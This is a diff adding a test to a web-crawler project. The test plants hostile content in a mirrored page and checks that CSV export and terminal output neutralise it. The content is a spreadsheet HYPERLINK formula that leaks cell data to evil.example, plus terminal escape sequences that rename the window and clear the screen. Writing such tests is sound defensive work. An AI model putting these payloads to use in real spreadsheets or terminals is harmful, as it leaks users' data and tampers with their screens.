@@ -184,3 +184,53 @@ def test_only_article_pages_make_the_error_rate_and_the_summary_agrees(tmp_path)
     assert errors == 3
     assert "items written, 3 errors" in result.stdout, result.stdout
     assert "0 article pages failed, 1 feed, 2 listing" in result.stdout
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") Dialogue'
+ESCAPES = ("\x1b", "\x9b", "\x07", "\x08")
+
+
+def _hostile_page(site, path, query, base_url):
+    page = site.respond(path, query, base_url)
+    html = page.body.decode("utf-8")
+    html = html.replace("Dialogue and", HOSTILE_TITLE.replace('"', "&quot;") + " and")
+    html = html.replace("“Provocative actions", "“Provocative\x1b]0;owned\x07 actions\x08\x08", 1)
+    html = html.replace("Helga Maria Schmid", "Helga\x1b[2J Maria\x9b Schmid")
+    return type(page)(page.status, html.encode("utf-8"), page.content_type)
+
+
+def test_exports_and_terminal_output_are_safe(tmp_path):
+    import csv
+
+    from osce_crawler.mirror import faults
+    from osce_crawler.mirror.faults import FaultySite
+
+    archive = tmp_path / "archive"
+    table = {"/secretariat/489944": faults.Fault(_hostile_page)}
+    with MirrorServer(FaultySite(MirrorSite(), table)) as server:  # type: ignore[arg-type]
+        result, items = crawl(server.base_url, archive, "--lang", "en")
+    assert result.returncode == 0, result.stderr[-2000:]
+    hostile = next(i for i in items if i["url"].endswith("/secretariat/489944"))
+    assert hostile["title"].startswith("=HYPERLINK(")  # archived as the site sent it
+    assert any("\x1b" in q["text"] for q in hostile["quotes"])
+    # CSV: no cell a spreadsheet would run
+    exported = run_cli("export", "--archive", str(archive), "-o", str(tmp_path / "items.csv"))
+    assert exported.returncode == 0, exported.stderr
+    with open(tmp_path / "items.csv", encoding="utf-8", newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    assert len(rows) == len(items)
+    row = next(r for r in rows if r["url"].endswith("/secretariat/489944"))
+    assert row["title"] == "'" + hostile["title"]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value[:40]
+    # the terminal: no control characters in quotes or stats, whatever the format
+    for command in (["quotes"], ["quotes", "--json"], ["stats"], ["stats", "--json"]):
+        shown = run_cli(*command, "--archive", str(archive))
+        assert shown.returncode == 0, shown.stderr
+        assert "Schmid" in shown.stdout or "stats" in command[0]
+        for escape in ESCAPES:
+            assert escape not in shown.stdout, (command, escape)
+    quoted = run_cli("quotes", "--archive", str(archive), "--json")
+    texts = [json.loads(line)["text"] for line in quoted.stdout.splitlines()]
+    assert any("\x1b]0;owned\x07" in text for text in texts)  # JSON keeps the data, escaped
